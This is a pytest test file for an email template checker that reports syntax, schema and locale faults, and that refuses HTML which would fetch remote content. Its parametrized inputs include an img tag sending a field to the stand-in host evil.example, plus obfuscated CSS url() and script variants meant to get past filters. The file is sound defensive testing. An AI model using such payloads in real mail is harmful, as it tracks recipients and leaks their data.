"""A version that could not be sent is refused, with everything that is wrong with it."""

import msgspec
import pytest

from app.errors import Fault
from app.notifications.templates.checking import faults_in_content
from app.notifications.templates.content import Content, Texts
from tests.app.notifications.contents import SAMPLE, SCHEMA, content, texts


def wheres(given: Content) -> list[str]:
    return [each.where for each in faults_in_content(given)]


def test_a_good_version_has_no_faults() -> None:
    assert faults_in_content(content()) == []


def test_every_fault_of_every_locale_is_listed() -> None:
    bad = Content(
        {"type": "nothing"},
        {"español": texts(), "es": Texts("{{ name", "no layout", "{{ 1 + 1 }}")},
        SAMPLE,
    )
    assert wheres(bad) == [
        "locales/en", "locales/español", "locales/es/subject", "locales/es/text", "locales/es/html", "schema",
    ]  # fmt: skip


def test_the_line_of_a_mistake_is_told() -> None:
    (fault,) = faults_in_content(content(subject="a\nb\n{% if name %}"))
    assert fault.where == "locales/en/subject"
    assert fault.message.startswith("line 3: Unexpected end of template")


def test_the_sample_has_to_fit_the_schema() -> None:
    assert faults_in_content(content(sample={"nmae": "Ada"})) == [
        Fault("sample/nmae", "is unknown"),
        Fault("sample/name", "is missing"),
    ]


def test_what_the_schema_does_not_require_may_be_missing_from_the_data() -> None:
    (text, html) = faults_in_content(content("{{ items | listed }}"))
    assert (text.where, html.where) == ("locales/en/text", "locales/en/html")
    assert text.message == "with the fields alone that the schema requires: 'items' is undefined"
    assert faults_in_content(content("{% if items is defined %}{{ items | listed }}{% endif %}")) == []


def test_a_subject_says_something() -> None:
    assert wheres(content(subject="{% if items is defined %}x{% endif %}")) == ["locales/en/subject"]


@pytest.mark.parametrize("part", ["subject", "text", "html"])
def test_what_no_store_can_keep_is_refused(part: str) -> None:
    spoilt = msgspec.structs.replace(texts(), **{part: "a\0b"})
    assert wheres(Content(SCHEMA, {"en": spoilt}, SAMPLE)) == [f"locales/en/{part}"]


def test_a_version_has_so_many_locales_and_no_more() -> None:
    many = {f"es-{number:03}": texts() for number in range(20)}
    assert faults_in_content(Content(SCHEMA, {"en": texts(), **many}, SAMPLE)) == [
        Fault("locales", "are more than 20")
    ]


@pytest.mark.parametrize(
    "fetching",
    [
        '<img src="https://evil.example/?{{ name }}">',
        "<img/SRC=x>",
        '<img {{ "sr" }}c="x">',
        '<img srcset="x 2x">',
        '<td background="x">',
        '<p style="background: URL (x)">',
        '<p style="background: u&#114;l(x)">',
        '<p style="background: u\\72l(x)">',
        '<p style="@import x">',
        '<link href="x">',
        "<script>x</script>",
        '<iframe srcdoc="x"></iframe>',
        '<object data="x"></object>',
        "<embed>",
        "<form>",
        '<meta http-equiv="refresh">',
        '<svg><image href="x"></svg>',
        '<!--[if mso]><v:fill src="x"/><![endif]-->',
        "<![foo[ x ]]>",
    ],
)
@pytest.mark.parametrize("where", ["{}", "{{% if name == 'nobody' %}}{}{{% endif %}}"])
def test_nothing_in_a_mail_is_fetched(fetching: str, where: str) -> None:
    source = f'{{% extends "layout.html" %}}{{% block content %}}{where.format(fetching)}{{% endblock %}}'
    faults = faults_in_content(content(html=source))
    assert {each.where for each in faults} == {"locales/en/html"}
    assert faults[0].message.startswith("a mail fetches nothing")


def test_what_is_rendered_fetches_nothing_either() -> None:
    source = '{% extends "layout.html" %}{% block content %}<img {{ name }}="x">{% endblock %}'
    faults = faults_in_content(content(html=source, sample={"name": "src"}))
    assert {each.message.rpartition("a mail")[2] for each in faults} == {" fetches nothing: src"}


def test_links_and_styles_are_no_fault() -> None:
    shown = '<a href="{{ name }}" style="color: #fff /* url( */">src= url(x) @import</a>'
    assert faults_in_content(content(shown, text=texts().text)) == []
